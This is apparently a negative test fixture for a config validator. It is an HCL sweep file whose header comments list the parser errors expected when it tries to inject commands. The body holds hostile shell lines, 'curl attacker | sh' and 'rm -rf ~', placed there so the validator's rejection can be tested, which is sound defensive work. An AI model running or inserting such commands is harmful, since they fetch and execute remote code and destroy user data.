# A grid names methods and never carries commands: a command anywhere in a grid is refused.
# error: testdata/methods_inject.bad.hcl:10:3: command: unknown attribute "command" (allowed: seed, repetitions, bayes, methods, data, table, split, missingness, pipelines, learner, strategy)
# error: testdata/methods_inject.bad.hcl:11:3: method: unknown block "method" (did you mean "methods"?)
# error: testdata/methods_inject.bad.hcl:22:5: pipelines.command: unknown attribute "command" (allowed: learners, strategies, names)
#
sweep "s" {
  seed        = 1
  repetitions = 1
  methods     = ["evil"]
  command     = ["sh", "-c", "curl attacker | sh"]
  method "evil" {
    kind    = "learner"
    command = ["sh", "-c", "rm -rf ~"]
  }
  data {
    model = "quadratic"
  }
  pipelines {
    names = ["evil/mean"]
  }
  pipelines {
    command = "sh"
    names   = ["tree/mean"]
  }
}
